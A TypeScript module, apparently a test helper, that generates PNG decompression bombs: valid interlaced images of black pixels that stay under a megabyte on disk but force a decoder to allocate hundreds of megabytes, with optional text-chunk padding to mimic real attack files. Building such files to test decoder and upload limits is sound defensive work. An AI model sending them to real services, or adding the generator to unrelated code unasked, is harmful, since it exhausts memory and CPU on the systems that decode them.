import zlib from 'node:zlib';

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const byte of bytes) c = CRC_TABLE[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

const made = new Map<number, Buffer>();

// Adam7 passes: x start, y start, x step, y step.
const ADAM7 = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;

/** Bytes of an interlaced 8-bit RGB image's filtered rows (each pass row starts with a filter byte). */
function interlacedLength(side: number): number {
  let total = 0;
  for (const [xs, ys, dx, dy] of ADAM7) {
    const cols = Math.ceil((side - xs) / dx);
    const rows = Math.ceil((side - ys) / dy);
    if (cols > 0) total += rows * (1 + cols * 3);
  }
  return total;
}

/** Deflates `length` zero bytes without holding them in memory. */
async function deflatedZeros(length: number): Promise<Buffer> {
  const deflate = zlib.createDeflate({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const block = Buffer.alloc(16 * 1_048_576);
  for (let left = length; left > 0; left -= block.length) {
    const part = left >= block.length ? block : block.subarray(0, left);
    if (!deflate.write(part)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

/**
 * A valid interlaced RGB PNG of `side`×`side` black pixels: 16000 gives 768 MB of
 * pixels in under a megabyte of file, and interlacing makes a decoder hold it all
 * (a decompression bomb that really costs seconds and memory to decode).
 * `padBytes` of text chunk make it as big as a real attack file.
 */
export async function pngBomb(side: number, padBytes = 0): Promise<Buffer> {
  let rows = made.get(side);
  if (!rows) {
    rows = await deflatedZeros(interlacedLength(side));
    made.set(side, rows);
  }
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header.set([8, 2, 0, 0, 1], 8); // 8-bit RGB, deflate, adaptive filtering, Adam7 interlace
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    ...(padBytes > 0
      ? [chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(padBytes, 0x61)]))]
      : []),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
